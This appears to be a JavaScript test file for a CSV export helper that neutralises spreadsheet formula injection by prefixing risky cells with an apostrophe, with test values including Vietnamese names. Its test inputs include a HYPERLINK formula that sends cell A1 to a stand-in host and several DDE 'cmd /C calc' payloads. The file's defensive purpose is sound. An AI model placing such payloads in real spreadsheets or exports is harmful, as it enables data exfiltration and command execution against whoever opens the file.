import { csvCell, inertCell, readInertCell } from './csv.js';

describe('CSV cells a spreadsheet never runs', () => {
  it.each([
    ['=HYPERLINK("http://x.invalid/?d="&A1,"Bấm vào")', `'=HYPERLINK("http://x.invalid/?d="&A1,"Bấm vào")`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ["-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['+84 912 345 678', `'+84 912 345 678`],
    ["'=1+1", `''=1+1`],
  ])('prefixes %j with an apostrophe', (value, inert) => {
    expect(inertCell(value)).toBe(inert);
  });

  it.each(['Nguyễn Thị Hòa', 'HPN-0001', '0912345678', "H'Mông", '1+1', 'a=b', "'trích dẫn'", ''])('leaves %j as it is', (value) => {
    expect(inertCell(value)).toBe(value);
  });

  it.each(['=1+1', '+84 912 345 678', '-5', '@x', '\t=x', "'=x", "''+x", 'Kinh', "'trích", ''])(
    'reads %j back exactly as it was written',
    (value) => {
      expect(readInertCell(inertCell(value))).toBe(value);
    },
  );

  it('quotes after neutralizing, so a delimiter cannot start a new live cell', () => {
    expect(csvCell('=1,=2')).toBe(`"'=1,=2"`);
    expect(csvCell('\t=1')).toBe("'\t=1");
  });
});
